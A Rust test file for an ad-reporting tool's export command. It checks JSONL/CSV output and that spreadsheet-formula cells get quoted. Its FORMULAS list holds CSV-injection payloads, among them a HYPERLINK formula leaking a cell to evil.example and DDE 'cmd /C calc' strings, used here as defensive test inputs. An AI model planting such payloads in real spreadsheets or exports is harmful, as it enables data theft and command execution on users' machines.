//! `adwatch export` as an operator runs it: only DATABASE_URL, reports on standard output.

use std::process::Command;

use adwatch::service::{self, ReporterKey, Submission};

#[tokio::test]
async fn export_writes_one_line_a_report_and_nothing_else_on_stdout() {
    let db = crate::db::sqlite().await;
    let key = ReporterKey::new("secret");
    for (user, text) in [
        (1, "Выплата 495 000 рублей при подписании контракта"),
        (2, "Жалақы 400 000 теңге, Алматы"),
    ] {
        let s = Submission {
            text: text.into(),
            origin: None,
            user_id: user,
            chat_id: None,
            links: vec![],
        };
        service::submit(&db.store, &key, 1_700_000_000_000, &s)
            .await
            .unwrap();
    }
    let out = Command::new(env!("CARGO_BIN_EXE_adwatch"))
        .args(["export", "--format", "jsonl"])
        .env_clear()
        .env("DATABASE_URL", &db.url)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<serde_json::Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("only JSON on stdout"))
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["amounts"][0]["value"], 495000);
    assert_eq!(lines[0]["first_seen"], "2023-11-14T22:13:20+00:00");

    let csv = Command::new(env!("CARGO_BIN_EXE_adwatch"))
        .args([
            "export",
            "--format",
            "csv",
            "--status",
            "pending",
            "--since",
            "2023-01-01",
        ])
        .env_clear()
        .env("DATABASE_URL", &db.url)
        .output()
        .unwrap();
    assert!(csv.status.success());
    assert_eq!(
        String::from_utf8(csv.stdout)
            .unwrap()
            .lines()
            .filter(|l| l.starts_with(|c: char| c.is_ascii_digit()))
            .count(),
        2
    );

    let bad = Command::new(env!("CARGO_BIN_EXE_adwatch"))
        .args(["export", "--since", "yesterday"])
        .env_clear()
        .output()
        .unwrap();
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("not a date"));
}

/// Ads that begin like spreadsheet formulas (OWASP's CSV injection prefixes), one a citizen.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Выплата 495 000 рублей\")",
    "+7 701 123 45 67 звоните, контракт 400 000 рублей",
    "-2+3+cmd|' /C calc'!A0 работа в России",
    "@SUM(1+1)*cmd|' /C calc'!A0 охрана, 3000 USD",
    "\t=1+1 вакансия сварщика",
    "\r=1+1 вакансия водителя",
];

#[tokio::test]
async fn csv_cells_that_start_like_formulas_get_a_quote_and_numbers_stay_numbers() {
    let db = crate::db::sqlite().await;
    let key = ReporterKey::new("secret");
    for (user, text) in FORMULAS.iter().enumerate() {
        let s = Submission {
            text: (*text).into(),
            origin: None,
            user_id: user as i64 + 1,
            chat_id: None,
            links: vec![],
        };
        service::submit(&db.store, &key, 1_700_000_000_000, &s)
            .await
            .unwrap();
    }
    let out = Command::new(env!("CARGO_BIN_EXE_adwatch"))
        .args(["export", "--format", "csv"])
        .env_clear()
        .env("DATABASE_URL", &db.url)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), FORMULAS.len());
    let mut texts: Vec<&str> = rows.iter().map(|r| &r[column("text")]).collect();
    texts.sort();
    let mut expected: Vec<String> = FORMULAS.iter().map(|t| format!("'{t}")).collect();
    expected.sort();
    assert_eq!(texts, expected, "every formula is written as text");
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "no cell a spreadsheet would run: {cell:?}"
            );
        }
        for name in ["id", "report_count", "risk"] {
            let cell = &row[column(name)];
            assert!(
                cell.parse::<i64>().is_ok(),
                "{name} stays a number: {cell:?}"
            );
        }
        // The other columns are JSON, read back whole.
        serde_json::from_str::<serde_json::Value>(&row[column("amounts")]).unwrap();
    }
}
